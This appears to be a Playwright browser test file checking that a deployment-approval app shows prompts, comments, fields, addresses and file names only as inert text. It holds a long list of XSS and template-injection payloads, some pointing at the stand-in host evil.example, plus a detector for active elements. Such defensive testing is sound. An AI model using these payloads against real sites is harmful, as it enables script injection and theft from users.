"""Whatever people can write is shown as text: nothing runs, nothing is loaded, nothing looks like a part of the page."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.house import OWNERS, House, number_of
from tests.browser.person import Person, choose, field, unfold

pytestmark = pytest.mark.slow  # seconds each; the main journey is among the quick tests

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--></style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "![x](https://evil.example/x.png)",
    "![x](/static/x.png)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example/)",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Approve</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/x autoplay><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '"><script>alert(1)</script>',
    "` onmouseover=alert(1) `",
    "{{ 7 * 7 }}{% raw %}",
    "{{ cycler.__init__.__globals__ }}",
    "${alert(1)}",
    "<%= 1 %>",
    "\u2028<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<tpircs>\u202c",
    "<p id=answer data-live data-form>x</p>",
    "<p id=main data-stream=//evil.example/>",
    "<img name=body><form id=body data-stream=//evil.example/>",
]

EACH = 12
"""Payloads in one test: enough that signing in does not take most of the time, few enough for what a person may ask."""

_ACTIVE = """() => [...document.querySelectorAll("*")].flatMap(element => [
  ...(/^(script|style|iframe|object|embed|base|video|audio|template|math|img|noscript)$/i.test(element.localName)
      && !(element.localName === "script" && element.src.startsWith(location.origin + "/static/"))
      ? [element.outerHTML.slice(0, 200)] : []),
  ...[...element.attributes].filter(each => /^on/i.test(each.name) || each.name === "srcdoc" || each.name === "style"
      || (/^(href|src|action|formaction|data|xlink:href|data-stream|data-page)$/i.test(each.name)
          && /^\\s*(javascript|data|vbscript|blob|file):|^\\/\\/|refresh/i.test(each.value)))
      .map(each => element.localName + " " + each.name + "=" + each.value),
])"""

_TOUCH = """() => document.querySelectorAll("*").forEach(each => {
  for (const name of ["mouseover", "mouseenter", "focus", "focusin", "toggle"]) each.dispatchEvent(new Event(name));
})"""

_DOUBLED = """() => [...document.querySelectorAll("[id]")].map(each => each.id)
  .filter((id, at, all) => all.indexOf(id) !== at)"""


def active(page: Page) -> list[str]:
    """What on a page could do something, or stands for a part of it."""
    return [*page.evaluate(_ACTIVE), *(f"two of #{name}" for name in page.evaluate(_DOUBLED))]


def some(wanted: Callable[[str], bool] = bool) -> list[list[str]]:
    """The payloads in parts, as far as they are wanted."""
    found = [payload for payload in PAYLOADS if wanted(payload)]
    return [found[start : start + EACH] for start in range(0, len(found), EACH)]


def first(payloads: list[str]) -> str:
    """What a part begins with."""
    return ascii(payloads[0])


def lines(payloads: list[str]) -> str:
    """All of them in one text, each in a paragraph of its own, and in every kind of Markdown."""
    plain = "\n\n".join(payloads)
    kinds = [f"- {p}\n\n> {p}\n\n| {p} |\n|---|\n| {p} |\n\n`{p}`\n\n## {p}" for p in payloads if "\n" not in p]
    return plain + "\n\n" + "\n\n".join(kinds)


def assert_harmless(page: Page) -> None:
    """Make sure that a page is only looked at; the guard tells of what it did."""
    unfold(page)
    page.evaluate(_TOUCH)
    assert active(page) == []


def test_a_prompt_is_text(house: House, alice: Person) -> None:
    page = alice.sign_in("/")
    path = house.gate(prompt="Deploy?\n\n" + lines(PAYLOADS), name="hostile")
    assert_harmless(alice.open(path))
    expect(page.get_by_text("<script>alert(1)</script>").first).to_be_visible()


@pytest.mark.parametrize("payloads", some(lambda text: "\n" not in text and "{" not in text), ids=first)
def test_a_title_is_text_in_lists_and_on_the_page(house: House, alice: Person, payloads: list[str]) -> None:
    alice.sign_in("/")
    for payload in payloads:
        assert_harmless(alice.open(house.gate(prompt=f"Deploy {payload} now?")))
    for place in ("/", "/pending"):
        assert active(alice.open(place)) == []


def test_a_comment_is_text(house: House, alice: Person) -> None:
    path = house.gate(required=2)
    page = alice.sign_in(path)
    for payload in PAYLOADS:
        house.repo.comment(house.hub.user("carol"), number_of(path), f"/approve\n\n{payload}")
    house.scene.say(house.hub.user("bob"), f"/approve deploy_target=staging\n\n{lines(PAYLOADS)}", number_of(path))
    expect(page.locator("#commands")).to_contain_text("@bob")
    assert active(page) == []
    page.reload()
    assert_harmless(page)


@pytest.mark.parametrize("payloads", some(), ids=first)
def test_a_reason_is_text(house: House, alice: Person, payloads: list[str]) -> None:
    alice.sign_in("/")
    for payload in payloads:
        path = house.gate()
        said = house.scene.say(house.hub.user("bob"), f"/reject {' '.join(payload.split())}", number_of(path))
        house.answered(said)  # some of them do not count, and are told why
        assert_harmless(alice.open(path))
    assert active(alice.open("/history")) == []


def test_declared_fields_are_text(house: House, alice: Person) -> None:
    fields = {
        f"f{n}": {
            "type": "str",
            "description": payload,
            "default": payload,
            "max_length": 400,
        }
        for n, payload in enumerate(PAYLOADS[:30])
        if "\n" not in payload and "\x01" not in payload and "\t" not in payload
    }
    fields["one"] = {"type": "enum", "choices": [p for p in PAYLOADS if "\n" not in p and p.isprintable()][:8]}
    fields["few"] = {
        "type": "enum",
        "choices": ["<b>bold</b>", '"\' onclick=alert(1) x="', "</option><script>alert(1)</script>"],
    }
    fields["json"] = {
        "type": "json",
        "default": {"</textarea><script>alert(1)</script>": "<img src=x onerror=alert(1)>"},
    }
    page = alice.sign_in(house.gate(inputs=fields))
    assert_harmless(page)
    expect(field(page, "f0")).to_have_value("<script>alert(1)</script>")


@pytest.mark.parametrize("payloads", some(str.isprintable), ids=first)
def test_what_was_typed_comes_back_as_text(house: House, alice: Person, payloads: list[str]) -> None:
    page = alice.sign_in(house.gate())
    choose(page, "deploy_target", "staging")
    for payload in payloads:
        field(page, "ticket").fill(payload)
        page.get_by_label("Remark").fill(payload)
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.get_by_role("alert")).to_be_visible()
        assert_harmless(page)
        expect(field(page, "ticket")).to_have_value(payload)
        expect(page.get_by_label("Remark")).to_have_value(payload)


@pytest.mark.parametrize("payloads", some(), ids=first)
def test_what_stands_in_an_address_is_text(alice: Person, payloads: list[str]) -> None:
    alice.sign_in("/")
    for payload in payloads:
        for place in ("/history?q={}", "/history?before={}", "/gates/acme/{}/1", "/{}", "/sign-in?to={}"):
            assert active(alice.open(place.format(_quoted(payload)))) == []


def test_names_of_files_and_labels_are_text(house: House, alice: Person) -> None:
    place = "/<img-src=x-onerror=alert(1)>/"
    house.repo.push("main", {"CODEOWNERS": f"* {OWNERS}\n{place} {OWNERS}\n"})
    path = house.gate(approvers=f"codeowners:{place}", name="files")
    house.repo.label(house.hub.user("alice"), number_of(path), "<script>alert(1)</script>")
    assert_harmless(alice.sign_in(path))
    expect(alice.page.get_by_text("<img-src=x").first).to_be_visible()


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())
